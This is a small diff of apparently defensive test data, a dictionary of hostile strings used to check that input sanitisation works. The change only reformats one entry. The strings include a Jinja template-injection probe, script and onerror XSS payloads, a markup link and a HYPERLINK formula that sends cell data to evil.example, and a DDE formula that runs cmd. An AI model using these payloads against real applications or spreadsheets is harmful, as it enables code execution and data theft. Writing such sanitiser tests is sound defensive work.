@@ -36,7 +36,8 @@ IN_URLS = ("planted6secret", "planted7secret", "planted8secret")
 TEXTS = {
     "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
     # Tags are taken out of titles; entities become the signs that they stand for.
-    "script": "Mug &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)>",
+    "script": "Mug &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
+    "&lt;img src=x onerror=alert(2)&gt;",
     "markup": "[/] [red]Mug[/red] [link=https://evil.example]here[/link]",
     "formula": '=HYPERLINK("https://evil.example?"&A1,"Mug")',
     "wide formula": "\uff1dcmd|' /C calc'!A0",
